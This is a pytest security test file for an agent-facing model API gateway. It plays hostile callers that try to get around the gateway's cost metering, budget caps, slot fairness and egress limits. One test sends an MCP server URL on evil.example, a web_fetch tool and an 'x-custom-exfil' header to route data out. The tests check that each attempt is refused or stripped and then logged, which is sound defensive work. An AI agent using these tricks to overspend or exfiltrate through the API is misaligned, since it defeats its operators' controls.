"""Attacks on the gateway's money, slots and egress through the model API (issue 16, attacks
1-4), each as a hostile caller would make them against the real gateway process with the
scripted model upstream, beside an honest caller whose request still succeeds.

The scripted model's ``expensive:`` scenario reports 10 input and 20,000 output tokens (capped at
the request's ``max_tokens``, as the real API): about $0.50 at Opus prices."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from orchestration_protocol import Layout
from orchestration_protocol.gateway import budget_error, read_egress, read_ledger
from scripted_model import ScriptedModelServer
from tests.gateway_helpers import (
    REAL_KEY,
    Caller,
    GatewayProcess,
    api_client,
    claim_caller,
    message_body,
    write_secret,
)

BASH = {"name": "Bash", "description": "run", "input_schema": {"type": "object"}}
DEAR = {"model": "claude-opus-5-5", "max_tokens": 20000, "tools": [BASH],
        "messages": [{"role": "user", "content": "expensive: a long essay"}]}
"""A request that could cost (and, answered in full, costs) about $0.50."""


@pytest.fixture
def secrets(tmp_path: Path) -> Path:
    return write_secret(tmp_path / "secrets")


@pytest.fixture
def model() -> Iterator[ScriptedModelServer]:
    with ScriptedModelServer(require_key=REAL_KEY) as server:
        yield server


def post(layout: Layout, caller: Caller, body: dict[str, object], **headers: str) -> httpx.Response:
    with api_client(layout) as client:
        return client.post("/v1/messages", json=body, headers={"x-api-key": caller.token, **headers})


def spent(layout: Layout, task_id: str) -> float:
    return sum(entry.cost_usd for entry in read_ledger(layout, task_id))


def dear_turns(model: ScriptedModelServer) -> int:
    return sum(1 for r in model.requests if r.scenario == "expensive")


# --------------------------------------------------------------------- 1: hang-up metering


def hang_up_after_the_content(layout: Layout, caller: Caller) -> int:
    """Stream a dear request and leave after ``content_block_stop``, before ``message_delta``."""
    with api_client(layout) as client, client.stream(
        "POST", "/v1/messages", json={**DEAR, "stream": True}, headers={"x-api-key": caller.token}
    ) as response:
        if response.status_code == 200:
            for line in response.iter_lines():
                if "content_block_stop" in line:
                    break
        return response.status_code


def test_a_caller_that_hangs_up_before_the_usage_event_is_charged_what_it_could_cost(
    layout: Layout, secrets: Path
) -> None:
    """Before: 10 such requests against $0.10 all went upstream, charged $0.0016 together."""
    hostile = claim_caller(layout, "hangs-up", max_budget_usd=0.10)
    honest = claim_caller(layout, "honest", max_budget_usd=2.0)
    with (ScriptedModelServer(require_key=REAL_KEY, event_delay_s=0.3) as model,
          GatewayProcess(layout, model.url, secrets)):
        statuses = [hang_up_after_the_content(layout, hostile) for _ in range(10)]
        honest_reply = post(layout, honest, DEAR)
    assert honest_reply.status_code == 200 and honest_reply.json()["usage"]["output_tokens"] == 20000
    assert spent(layout, "honest") == pytest.approx(0.50005)
    assert dear_turns(model) == 2, "only one hostile request may reach the upstream"
    assert statuses.count(200) == 1 and statuses.count(403) == 9, statuses
    gone = [e for e in read_ledger(layout, "hangs-up") if e.outcome == "caller_gone"]
    assert len(gone) == 1 and gone[0].output_tokens > 3900  # every output token its max allowed
    assert 0.095 < spent(layout, "hangs-up") <= 0.10


# --------------------------------------------------------------------------- 2: budget race


def test_twelve_concurrent_requests_cannot_spend_past_a_050_budget(
    layout: Layout, model: ScriptedModelServer, secrets: Path
) -> None:
    """Before: 12 at once against $0.50 spent $4 (the ledger was written only when each ended)."""
    hostile = claim_caller(layout, "racer", max_budget_usd=0.50)
    statuses: list[int] = []

    def one() -> None:
        statuses.append(post(layout, hostile, DEAR).status_code)

    with GatewayProcess(layout, model.url, secrets, ["--concurrency", "16",
                                                     "--task-concurrency", "16",
                                                     "--caller-concurrency", "16"]):
        threads = [threading.Thread(target=one) for _ in range(12)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=60)
    assert spent(layout, "racer") <= 0.50
    assert statuses.count(200) == 1 and statuses.count(403) == 11, statuses
    assert dear_turns(model) == 1
    assert budget_error(layout, "racer", 1), "the refusals name the budget for the result"


def test_sequential_unstreamed_requests_cannot_pass_a_010_budget(
    layout: Layout, model: ScriptedModelServer, secrets: Path
) -> None:
    """Before: 5 x $0.50, one after another, all passed a $0.10 budget."""
    hostile = claim_caller(layout, "sequential", max_budget_usd=0.10)
    honest = claim_caller(layout, "plain", max_budget_usd=0.10)
    with GatewayProcess(layout, model.url, secrets):
        statuses = [post(layout, hostile, DEAR).status_code for _ in range(5)]
        honest_reply = post(layout, honest, message_body(stream=False))
    assert spent(layout, "sequential") <= 0.10
    assert statuses == [200, 403, 403, 403, 403]  # the first one with max_tokens lowered to fit
    assert next(r for r in model.requests if r.scenario == "expensive").body["max_tokens"] < 4000
    assert honest_reply.status_code == 200


# ------------------------------------------------------------------------------ 3: fairness


def test_one_task_holding_every_slot_does_not_starve_another(
    layout: Layout, secrets: Path
) -> None:
    """Before: a hog's queued requests all went before another task's single one (FIFO)."""
    hog, victim = claim_caller(layout, "hog"), claim_caller(layout, "victim")
    statuses: list[int] = []

    def hog_one(i: int) -> None:
        with api_client(layout, timeout=120) as client:
            statuses.append(client.post("/v1/messages", json=message_body(f"reply: hog {i}"),
                                        headers={"x-api-key": hog.token}).status_code)

    # each reply takes ~3.6 s upstream: the victim arrives while the hog holds both slots
    with (ScriptedModelServer(require_key=REAL_KEY, event_delay_s=0.6) as model,
          GatewayProcess(layout, model.url, secrets, ["--concurrency", "2"])):
        threads = [threading.Thread(target=hog_one, args=(i,)) for i in range(6)]
        for thread in threads:
            thread.start()
        while len(model.requests) < 2:
            time.sleep(0.02)
        victim_reply = post(layout, victim, message_body("reply: victim"))
        for thread in threads:
            thread.join(timeout=120)
    order = [r.prompt for r in model.requests]
    assert victim_reply.status_code == 200 and statuses == [200] * 6
    # fair: the victim takes one of the first slots freed (2, or 3 on a loaded machine where it
    # reached the queue after the first one freed); a FIFO queue served it after all six hogs
    assert order.index("reply: victim") <= 3, order


def test_a_task_over_its_slot_cap_waits_and_a_bounded_wait_ends_in_529(
    layout: Layout, secrets: Path
) -> None:
    hog = claim_caller(layout, "capped")
    answers: list[httpx.Response] = []

    def one(i: int) -> None:
        with api_client(layout, timeout=60) as client:
            answers.append(client.post("/v1/messages", json=message_body(f"reply: {i}"),
                                       headers={"x-api-key": hog.token}))

    with (ScriptedModelServer(require_key=REAL_KEY, event_delay_s=0.3) as model,
          GatewayProcess(layout, model.url, secrets, ["--task-concurrency", "1",
                                                      "--queue-timeout-s", "0.5"])):
        threads = [threading.Thread(target=one, args=(i,)) for i in range(3)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=60)
    busy = [a for a in answers if a.status_code == 529]
    assert len(model.requests) == 1 and len(busy) == 2
    assert busy[0].json()["error"]["type"] == "overloaded_error"
    assert "no free upstream slot" in busy[0].json()["error"]["message"]
    assert busy[0].headers["x-should-retry"] == "true"


# --------------------------------------------------------------- 4: egress via the model API


CLAUDE_CODE_BETAS = ("claude-code-20250219,interleaved-thinking-2025-05-14,"
                     "context-management-2025-06-27,effort-2025-11-24")


def test_server_side_fetches_are_refused_and_logged_as_egress(
    layout: Layout, model: ScriptedModelServer, secrets: Path
) -> None:
    """Before: ``mcp_servers``, the ``web_fetch`` tool, any beta and header were forwarded with
    the real key: Anthropic's servers would have fetched the agent's URLs."""
    hostile, honest = claim_caller(layout, "exfil"), claim_caller(layout, "coder")
    mcp = {**message_body(), "mcp_servers": [{"type": "url", "url": "https://evil.example/mcp",
                                               "name": "x"}]}
    fetch = {**message_body(), "tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}
    client_tool = {"name": "Bash", "description": "run", "input_schema": {"type": "object"}}
    honest_body = {**message_body(), "tools": [client_tool], "metadata": {"user_id": "u"},
                   "thinking": {"type": "adaptive"}, "context_management": {"edits": []},
                   "output_config": {"effort": "medium"}}
    with GatewayProcess(layout, model.url, secrets):
        refused = [post(layout, hostile, body) for body in (mcp, fetch)]
        stripped = post(layout, hostile, message_body(), **{
            "anthropic-beta": "mcp-client-2025-04-04,web-fetch-2025-09-10,files-api-2025-04-14,"
                              "claude-code-20250219", "x-custom-exfil": "secret"})
        ok = post(layout, honest, honest_body, **{"anthropic-beta": CLAUDE_CODE_BETAS})
    assert [r.status_code for r in refused] == [400, 400]
    assert "'mcp_servers'" in refused[0].json()["error"]["message"]
    assert "web_fetch_20250910" in refused[1].json()["error"]["message"]
    egress = read_egress(layout, "exfil")
    assert [(e.host, e.allowed) for e in egress] == [("mcp_servers", False),
                                                     ("web_fetch_20250910", False)]
    assert stripped.status_code == 200 and ok.status_code == 200
    sent = [r.headers for r in model.requests]
    hostile_headers = {k.lower(): v for k, v in sent[0].items()}
    assert hostile_headers["anthropic-beta"] == "claude-code-20250219"
    assert "x-custom-exfil" not in hostile_headers
    honest_headers = {k.lower(): v for k, v in sent[1].items()}
    assert honest_headers["anthropic-beta"] == CLAUDE_CODE_BETAS
    assert json.dumps(model.requests[1].body["tools"]) == json.dumps([client_tool])


def test_the_person_can_allow_a_server_tool_and_a_beta(
    layout: Layout, model: ScriptedModelServer, secrets: Path
) -> None:
    caller = claim_caller(layout, "allowed")
    search = {**message_body(), "tools": [{"type": "web_search_20250305", "name": "web_search"}]}
    with GatewayProcess(layout, model.url, secrets, ["--allow-server-tools", "web_search_20250305",
                                                     "--allow-betas", "files-api-2025-04-14"]):
        reply = post(layout, caller, search, **{"anthropic-beta": "files-api-2025-04-14"})
    assert reply.status_code == 200, reply.text
    assert {k.lower(): v for k, v in model.requests[0].headers.items()}["anthropic-beta"] == (
        "files-api-2025-04-14")
